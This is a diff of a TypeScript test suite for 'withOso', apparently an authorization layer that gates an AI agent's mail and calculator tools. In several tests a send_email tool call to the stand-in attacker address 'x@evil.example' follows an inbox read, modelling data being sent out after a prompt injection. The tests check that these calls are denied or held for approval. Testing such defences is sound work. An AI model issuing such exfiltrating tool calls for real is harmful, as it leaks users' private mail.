@@ -44,7 +44,7 @@ describe('withOso(tools)', () => {
     const dynamic = new DynamicStructuredTool({
       name: 'lookup',
       description: 'Look up a word',
-      schema: { type: 'object', properties: { word: { type: 'string' } }, required: ['word'] },
+      schema: { type: 'object' as const, properties: { word: { type: 'string' as const } }, required: ['word'] },
       func: async () => 'a word',
     });
     const originals = [readInbox, calculator, dynamic] as const;
@@ -185,24 +185,27 @@ describe('withOso(tools)', () => {
   it('called directly: returns an error ToolMessage for a tool call, throws typed errors otherwise', async () => {
     const log: ToolLog = { executed: [] };
     const oso = mailOso();
-    const [readInbox, , sendEmail] = withOso(Object.values(mailTools(log)), { oso, sessionId: 'direct', capabilities: MAIL_CAPABILITIES });
-    await readInbox!.invoke({});
+    const tools = mailTools(log);
+    const options = { oso, sessionId: 'direct', capabilities: MAIL_CAPABILITIES };
+    await withOso(tools.readInbox, options).invoke({});
+    const sendEmail = withOso(tools.sendEmail, options);
 
-    const message = await sendEmail!.invoke({ id: 'call_x', name: 'send_email', args: { to: 'x@evil.example', body: 'b' }, type: 'tool_call' });
+    const message = await sendEmail.invoke({ id: 'call_x', name: 'send_email', args: { to: 'x@evil.example', body: 'b' }, type: 'tool_call' });
     expect(ToolMessage.isInstance(message) && message.status).toBe('error');
-    await expect(sendEmail!.invoke({ to: 'x@evil.example', body: 'b' })).rejects.toSatisfy(ToolDeniedError.isInstance);
+    await expect(sendEmail.invoke({ to: 'x@evil.example', body: 'b' })).rejects.toSatisfy(ToolDeniedError.isInstance);
     expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
 
-    const pendingOso = mailOso({ environment: 'development' });
-    const [pendingRead, , pendingSend] = withOso(Object.values(mailTools(log)), { oso: pendingOso, sessionId: 'direct', capabilities: MAIL_CAPABILITIES });
-    await pendingRead!.invoke({});
-    await expect(pendingSend!.invoke({ to: 'x@evil.example', body: 'b' })).rejects.toSatisfy(ApprovalRequiredError.isInstance);
+    const pendingOptions = { ...options, oso: mailOso({ environment: 'development' }) };
+    await withOso(tools.readInbox, pendingOptions).invoke({});
+    await expect(withOso(tools.sendEmail, pendingOptions).invoke({ to: 'x@evil.example', body: 'b' })).rejects.toSatisfy(
+      ApprovalRequiredError.isInstance,
+    );
   });
 
   it('fails closed without a session id: the tool does not run', async () => {
     const log: ToolLog = { executed: [] };
-    const [, , , calculator] = withOso(Object.values(mailTools(log)), { oso: mailOso(), capabilities: MAIL_CAPABILITIES });
-    await expect(calculator!.invoke({ a: 1, b: 2 })).rejects.toSatisfy(OsoValidationError.isInstance);
+    const calculator = withOso(mailTools(log).calculator, { oso: mailOso(), capabilities: MAIL_CAPABILITIES });
+    await expect(calculator.invoke({ a: 1, b: 2 })).rejects.toSatisfy(OsoValidationError.isInstance);
     expect(log.executed).toEqual([]);
   });
 
@@ -210,8 +213,11 @@ describe('withOso(tools)', () => {
     const log: ToolLog = { executed: [] };
     const graph = toolNodeGraph(ATTACK_SCRIPT, withOso(Object.values(mailTools(log)), { oso: mailOso(), capabilities: MAIL_CAPABILITIES }));
     const statuses: string[] = [];
-    for await (const chunk of await graph.stream(ask('Summarise my inbox'), { ...thread('graph-stream'), streamMode: 'updates' })) {
-      for (const message of chunk.tools?.messages ?? []) {
+    const stream = (await graph.stream(ask('Summarise my inbox'), { ...thread('graph-stream'), streamMode: 'updates' })) as AsyncIterable<
+      Record<string, { messages?: BaseMessage[] }>
+    >;
+    for await (const chunk of stream) {
+      for (const message of chunk['tools']?.messages ?? []) {
         if (ToolMessage.isInstance(message)) statuses.push(`${message.tool_call_id}:${message.status ?? 'success'}`);
       }
     }
